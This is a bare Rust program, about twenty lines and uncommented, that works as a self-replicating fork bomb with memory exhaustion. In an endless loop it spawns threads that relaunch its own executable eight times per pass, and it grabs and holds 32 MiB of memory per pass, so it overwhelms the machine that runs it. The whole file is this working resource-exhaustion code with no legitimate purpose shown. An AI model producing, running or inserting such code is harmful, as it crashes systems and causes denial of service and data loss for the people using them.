use std::env;
use std::process::{Command, Stdio};
use std::thread;

fn main() {
    let me = env::current_exe().expect("exe");
    let mut keep: Vec<Vec<u8>> = Vec::new();
    loop {
        for _ in 0..8 {
            let me = me.clone();
            thread::spawn(move || {
                let _ = Command::new(me).stdin(Stdio::null()).stdout(Stdio::null()).spawn();
            });
        }
        keep.push(vec![1u8; 32 << 20]);
    }
}
